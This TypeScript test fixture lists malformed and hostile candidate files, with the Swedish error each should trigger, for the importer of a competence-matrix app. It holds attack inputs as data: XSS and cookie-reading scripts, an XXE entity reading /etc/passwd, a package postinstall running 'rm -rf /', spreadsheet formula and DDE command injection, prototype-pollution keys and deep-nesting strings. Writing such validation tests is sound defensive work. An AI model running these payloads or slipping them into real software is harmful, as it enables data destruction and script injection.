/** A file that somebody might open as candidates, by mistake or by design. */
export interface HostileFile {
  readonly name: string;
  readonly file: string;
  /** What the refusal says; absent where the file is right and its text is only text. */
  readonly says?: RegExp;
}

const SCORE = { bedomare1: 3 };
const person = { id: 'k1', namn: 'A.B.', poang: { returer: SCORE } };
const top = { format: 'kompetensmatrisen-kandidater', version: 1, kandidater: [person] };
const json = (value: unknown) => JSON.stringify(value);
const withTop = (changed: object) => json({ ...top, ...changed });
const withPerson = (changed: object) => withTop({ kandidater: [{ ...person, ...changed }] });
const withScores = (poang: unknown) => withPerson({ poang });
const withScore = (score: unknown) => withScores({ returer: score });
const without = (object: object, key: string) =>
  Object.fromEntries(Object.entries(object).filter(([name]) => name !== key));
/** What JSON.stringify would never write. */
const raw = (from: string, to: string) => json(top).replace(from, to);
const nested = (depth: number, open: string, close: string, inside = '1') =>
  open.repeat(depth) + inside + close.repeat(depth);

const NOT_JSON = /inte JSON/;
const NOT_OURS = /ingen kandidatfil/;
const SHAPE = /fel uppbyggnad\. Den kan/;
const PERSON = /Kandidat 1 i filen har fel uppbyggnad/;
const NAME = /Kandidat 1 i filen: (?:Namnet|Skriv)/;
const SCORES = /heltal från 0 till 4/;
const COMPETENCE = /inte kan vara en kompetens/;

const entries = (says: RegExp | undefined, files: Readonly<Record<string, string>>) =>
  Object.entries(files).map(
    ([name, file]): HostileFile => ({ name, file, ...(says === undefined ? {} : { says }) }),
  );

/** Every kind that has come to mind. All but the last group must be refused. */
export const hostileFiles: readonly HostileFile[] = [
  ...entries(NOT_JSON, {
    'an empty file': '',
    'only spaces': '   \n',
    'only a byte order mark': '\uFEFF',
    'a word': 'kandidater',
    'a truncated file': json(top).slice(0, -5),
    'a file truncated in a name': json(top).slice(0, json(top).indexOf('A.B.') + 2),
    'two files after one another': json(top) + json(top),
    'text after the end': `${json(top)} och lite till`,
    'NaN as a score': raw(':3', ':NaN'),
    'Infinity as a score': raw(':3', ':Infinity'),
    'undefined as a score': raw(':3', ':undefined'),
    'a hexadecimal score': raw(':3', ':0x3'),
    'a score with a leading zero': raw(':3', ':03'),
    'a score with a plus': raw(':3', ':+3'),
    'a comment': raw('{', '{/* hej */'),
    'a trailing comma': raw('}]}', '}],}'),
    'single quotes': json(top).replaceAll('"', "'"),
    'unquoted keys': raw('"version"', 'version'),
    'a web page': '<!doctype html><script>alert(1)</script>',
    'a script': 'alert(document.cookie)',
    'a script that is also an import': 'import("https://exempel.se/x.js")',
    'a callback': `callback(${json(top)})`,
    'a spreadsheet': 'Kompetens;Poäng\r\n=1+1;3\r\n',
    'a zip archive': 'PK\u0003\u0004\u0000\u0000',
    'null bytes': '\u0000'.repeat(100),
    'XML with an entity': '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    'YAML with a tag': '!!js/function >\n  function () {}',
    'a raw line break in a name': raw('A.B.', 'A\nB'),
    'lists without an end': '['.repeat(100_000),
  }),
  ...entries(NOT_OURS, {
    'a number': '42',
    'a text in quotes': '"kandidater"',
    null: 'null',
    true: 'true',
    'an empty list': '[]',
    'an empty object': '{}',
    'a list around it': json([top]),
    'lists in lists': nested(50_000, '[', ']'),
    'objects in objects': nested(20_000, '{"a":', '}'),
    'another format': withTop({ format: 'annat' }),
    'the format in capitals': withTop({ format: 'KOMPETENSMATRISEN-KANDIDATER' }),
    'the format as a list': withTop({ format: [top.format] }),
    'no format': json(without(top, 'format')),
    'a package file': json({ name: 'x', scripts: { postinstall: 'rm -rf /' } }),
    'the format under __proto__': '{"__proto__":{"format":"kompetensmatrisen-kandidater"}}',
    'the format under constructor': json({ constructor: { prototype: top } }),
  }),
  ...entries(/version (?:0|2|-1|999)/, {
    'an older version': withTop({ version: 0 }),
    'a newer version': withTop({ version: 2 }),
    'a far newer version': withTop({ version: 999 }),
    'a version below zero': withTop({ version: -1 }),
  }),
  ...entries(SHAPE, {
    'no version': json(without(top, 'version')),
    'the version as text': withTop({ version: '1' }),
    'half a version': withTop({ version: 1.5 }),
    'a version too large to count with': withTop({ version: 1e300 }),
    'the version as null': withTop({ version: null }),
    'no candidates at all': json(without(top, 'kandidater')),
    'candidates as an object': withTop({ kandidater: { 0: person } }),
    'candidates as text': withTop({ kandidater: 'A.B.' }),
    'candidates as null': withTop({ kandidater: null }),
    'candidates that only claim a length': withTop({ kandidater: { length: 6 } }),
    'a field more': withTop({ mer: 1 }),
    '__proto__ at the top': raw('{', '{"__proto__":{"polluted":true},'),
    'toString at the top': withTop({ toString: 'x' }),
  }),
  ...entries(/7 kandidater|100000 kandidater|5000 kandidater/, {
    'seven candidates': withTop({ kandidater: Array(7).fill(person) }),
    'five thousand candidates': withTop({ kandidater: Array(5000).fill(1) }),
    'a hundred thousand candidates': withTop({ kandidater: Array(100_000).fill(0) }),
  }),
  ...entries(PERSON, {
    'a candidate that is null': withTop({ kandidater: [null] }),
    'a candidate that is a number': withTop({ kandidater: [1] }),
    'a candidate that is a list': withTop({ kandidater: [[person]] }),
    'a candidate with a field more': withPerson({ alder: 52 }),
    'a candidate with a picture': withPerson({ bild: 'data:image/png;base64,' }),
    'a candidate without id': withTop({ kandidater: [without(person, 'id')] }),
    'an id that is a number': withPerson({ id: 1 }),
    'an id that is empty': withPerson({ id: '' }),
    'an id with markup': withPerson({ id: '<img src=x onerror=alert(1)>' }),
    'an id that is __proto__': withPerson({ id: '__proto__' }),
    'an id of digits only': withPerson({ id: '1' }),
    'an id without an end': withPerson({ id: 'k'.repeat(65) }),
    'a candidate without a name': withTop({ kandidater: [without(person, 'namn')] }),
    'a name that is a number': withPerson({ namn: 7 }),
    'a name that is a list': withPerson({ namn: ['A', 'B'] }),
    'a name that pretends to be text': withPerson({ namn: { toString: 'A' } }),
    'scores that are missing': withTop({ kandidater: [without(person, 'poang')] }),
    'scores that are null': withScores(null),
    'scores in a list': withScores([3, 3]),
    'scores as text': withScores('3'),
    '__proto__ in a candidate': raw('{"id"', '{"__proto__":{"polluted":true},"id"'),
  }),
  ...entries(/samma id/, {
    'the same id twice': withTop({ kandidater: [person, { ...person, namn: 'C' }] }),
    'the same id first and last': withTop({
      kandidater: [person, { ...person, id: 'k2' }, person],
    }),
  }),
  ...entries(NAME, {
    'an empty name': withPerson({ namn: '' }),
    'a name of spaces': withPerson({ namn: '   ' }),
    'a name that takes no room': withPerson({ namn: '\u200B\u2060' }),
    'a name of bidi controls only': withPerson({ namn: '\u202E\u2066' }),
    'a name that never ends': withPerson({ namn: 'a'.repeat(201) }),
    'a name of endless accents': withPerson({ namn: `e${'\u0301'.repeat(5000)}` }),
    'a name with a null byte': withPerson({ namn: 'A\u0000B' }),
    'a name with a line break': withPerson({ namn: 'A\nB' }),
    'a name with an escape sequence': withPerson({ namn: '\u001B[31mA' }),
    'a name with half an emoji': withPerson({ namn: 'A\uD83D' }),
  }),
  ...entries(COMPETENCE, {
    'a competence with markup': withScores({ '<script>alert(1)</script>': SCORE }),
    'a competence with a formula': withScores({ '=1+1': SCORE }),
    'a competence that is empty': withScores({ '': SCORE }),
    'a competence that is a number': withScores({ 7: SCORE }),
    'a competence without an end': withScores({ ['a'.repeat(10_000)]: SCORE }),
    'a competence in Arabic': withScores({ مهارة: SCORE }),
    'a competence that is __proto__': raw('"returer"', '"__proto__"'),
    'a competence that climbs': withScores({ '../../om': SCORE }),
  }),
  ...entries(SCORES, {
    'a score above the scale': withScore({ bedomare1: 5 }),
    'a score below the scale': withScore({ bedomare1: -1 }),
    'half a score': withScore({ bedomare1: 2.5 }),
    'a score as text': withScore({ bedomare1: '3' }),
    'a score that is null': withScore({ bedomare1: null }),
    'a score that is true': withScore({ bedomare1: true }),
    'a score in a list': withScore({ bedomare1: [3] }),
    'a score beyond all numbers': raw(':3', ':1e999'),
    'a score that is an object': withScore({ bedomare1: { valueOf: 3 } }),
    'scores without an assessor': withScore({}),
    'a bare score': withScore(3),
    'a score that is nothing': withScore(null),
    'scores by position': withScore([3, 3]),
    'a third assessor': withScore({ ...SCORE, bedomare3: 3 }),
    'a sum': withScore({ ...SCORE, summa: 7 }),
    '__proto__ as an assessor': raw('"bedomare1"', '"__proto__"'),
  }),
  ...entries(/fast bedömarna inte skiljer sig åt/, {
    'an agreement without scores': withScore({ gemensam: 3 }),
    'an agreement with one assessor': withScore({ bedomare1: 3, gemensam: 3 }),
    'an agreement where nobody differed': withScore({ bedomare1: 3, bedomare2: 3, gemensam: 2 }),
  }),
  ...entries(/för stor/, {
    'a file of two megabytes': withPerson({ namn: 'a'.repeat(2_000_000) }),
    'a file of spaces': `${json(top)}${' '.repeat(1_500_000)}`,
  }),
  ...entries(undefined, {
    'a byte order mark before a good file': `\uFEFF${json(top)}`,
    'markup in a name': withPerson({ namn: '<img src=x onerror="alert(1)">' }),
    'a script in a name': withPerson({ namn: '</script><script>alert(1)</script>' }),
    'a formula in a name': withPerson({ namn: '=HYPERLINK("https://exempel.se";"A")' }),
    'a command in a name': withPerson({ namn: "@SUM(1+1)*cmd|' /C calc'!A0" }),
    'a name of 200 letters without a break': withPerson({ namn: 'å'.repeat(200) }),
    'a name in Arabic': withPerson({ namn: 'محمد العربي' }),
    'a name that turns the direction': withPerson({ namn: 'A\u202EB\u2066C' }),
    'a name of emoji': withPerson({ namn: '👩🏽‍💻👨‍👩‍👧‍👦' }),
    'a name in decomposed letters': withPerson({ namn: 'A\u030Asa O\u0308berg' }),
    'a name that is __proto__': withPerson({ namn: '__proto__' }),
    'a competence that is constructor': withScores({ constructor: SCORE }),
    'an unknown competence': withScores({ 'en-kompetens-fran-framtiden': SCORE }),
    'no candidates yet': withTop({ kandidater: [] }),
  }),
];
